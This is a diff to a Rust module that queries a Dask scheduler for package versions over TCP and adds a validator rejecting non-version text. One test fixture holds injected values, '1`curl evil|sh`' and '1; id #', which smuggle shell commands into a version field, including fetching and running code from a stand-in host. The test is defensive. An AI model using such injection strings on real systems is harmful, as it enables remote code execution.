@@ -4,7 +4,10 @@
 //! msgpack, never compressed. Both sides begin with what they are. Source: `distributed/comm/tcp.py` and
 //! `distributed/protocol/utils.py` of distributed 2026.8.0; tried against it.
 
+use std::net::Ipv4Addr;
+
 use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
+use tokio::net::TcpStream;
 
 /// More than any answer to what is asked here.
 const LARGEST: u64 = 64 * 1024;
@@ -35,6 +38,21 @@ pub async fn versions(stream: &mut (impl AsyncRead + AsyncWrite + Unpin)) -> Opt
     let answer = read(stream).await?;
     let found = found(&answer);
     (found != Versions::default()).then_some(found)
+}
+
+/// The same of a scheduler behind a port of this machine.
+pub async fn versions_here(port: u16) -> Option<Versions> {
+    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).await.ok()?;
+    versions(&mut stream).await
+}
+
+/// Returns true for text that can be a version: users of a scheduler decide what it answers, and versions are printed in commands.
+/// Source: PEP 440 has fewer characters.
+pub fn is_version(text: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '!' | '_' | '-');
+    (1..=40).contains(&text.len())
+        && text.starts_with(|c: char| c.is_ascii_digit())
+        && text.chars().all(plain)
 }
 
 async fn write(stream: &mut (impl AsyncWrite + Unpin), message: &[u8]) -> Option<()> {
@@ -74,7 +92,7 @@ fn value(packed: &[u8], key: &str) -> Option<String> {
     let length =
         packed.get(behind).filter(|byte| **byte & 0xe0 == 0xa0).map(|byte| usize::from(byte & 0x1f))?;
     let text = packed.get(behind + 1..behind + 1 + length)?;
-    String::from_utf8(text.to_vec()).ok().filter(|text| !text.is_empty())
+    String::from_utf8(text.to_vec()).ok().filter(|text| is_version(text))
 }
 
 #[cfg(test)]
@@ -95,6 +113,11 @@ mod tests {
         assert_eq!(value(ANSWER, "numpy"), None, "it has none");
         assert_eq!(found(b"HTTP/1.1 400 Bad Request"), Versions::default());
         assert_eq!(found(b"\xa8packages\xa4dask\xbf20"), Versions::default(), "cut off");
+        // 31 bytes that somebody chose are no version.
+        assert_eq!(
+            found(b"\xa8packages\xa4dask\xaf1`curl evil|sh`\xabdistributed\xa71; id #"),
+            Versions::default()
+        );
     }
 
     #[tokio::test]
